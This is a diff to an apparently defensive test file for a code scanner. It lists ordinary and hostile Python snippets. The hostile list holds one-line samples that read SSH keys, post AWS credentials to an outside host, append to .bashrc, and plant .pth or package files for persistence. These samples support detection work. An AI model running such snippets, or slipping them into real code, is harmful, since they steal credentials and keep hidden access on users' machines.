@@ -48,6 +48,9 @@ ORDINARY = [
         "def f(d):\n"
         "    requests.post('https://x.org', d, token=os.getenv('T'))\n"
     ),
+    "import sys\nclass Tracer:\n    def start(self):\n        sys.settrace(self.trace)\n",
+    "import importlib.machinery as m\nfrom x import add\nadd(m.SourceFileLoader, 1)\n",
+    "import p\ndef f(t):\n    open(p.__file__ + '.json', 'w').write(t)\n",
     "import socket\ndef f():\n    return socket.gethostbyname(socket.gethostname())\n",
     "def f():\n    with open('/root/.pypirc') as file:\n        return file.read()\n",
     (
@@ -107,7 +110,9 @@ HOSTILE = [
         "    requests.post('https://x.org', open('/root/.aws/credentials'))\n"
     ),
     "def f():\n    return open('/root/.ssh/id_rsa').read()\n",
-    "def f():\n    open('/root/.netrc', 'w').write('x')\n",
+    "import os, site\ndef f():\n    open(site.USER_SITE + '/x.pth', 'w').write('x')\n",
+    "import os, pack\ndef f(t):\n    open(os.path.join(pack.__file__, 'a.py'), 'w').write(t)\n",
+    "import sys\nsys.settrace(print)\n",
     "def f():\n    open('/root/.bashrc', 'a').write('x')\n",
     (
         "import requests\n"
